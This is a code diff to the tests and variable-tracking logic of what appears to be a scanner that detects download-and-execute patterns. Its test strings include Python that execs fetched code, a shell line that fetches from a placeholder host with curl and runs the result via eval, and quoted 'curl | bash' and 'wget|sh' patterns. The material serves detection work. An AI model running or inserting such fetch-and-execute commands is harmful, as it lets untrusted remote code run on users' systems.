@@ -590,6 +590,8 @@ impl Flow<'_> {
                 self.vars.set(name, &expanded);
                 if DECODE.is_match(value) {
                     self.decoded.insert(name.to_owned(), number);
+                } else {
+                    self.decoded.remove(name);
                 }
             }
         }
@@ -817,6 +819,9 @@ mod tests {
         // Evaluated inside Python: no installer does that, whatever its host.
         let s = "r = requests.get(URL)\ncode = r.text\nexec(code)\n";
         assert_eq!(codes("a.py", s), ["SK901"]);
+        // Only the search of a chain is a search.
+        let s = "p=$(curl -s https://x.dev/p)\ngrep -q ok log && eval \"$p\"\n";
+        assert_eq!(codes("a.sh", s), ["SK902"]);
     }
 
     #[test]
@@ -839,6 +844,8 @@ mod tests {
         assert!(codes("a.sh", s).is_empty());
         let s = "| Download and run | `curl | bash`, `wget|sh` | blocked |\n";
         assert!(codes("README.md", s).is_empty());
+        let s = "grep -rnE 'curl .*\\| *(ba)?sh|base64 -d' . | head -20\n";
+        assert!(codes("a.sh", s).is_empty());
         let s = "curl -o out.json https://api.x.dev/v1\npython3 process.py out.json\n";
         assert!(codes("a.sh", s).is_empty());
         let s = "x = base64.b64decode(s)\nprint(json.loads(x))\n";
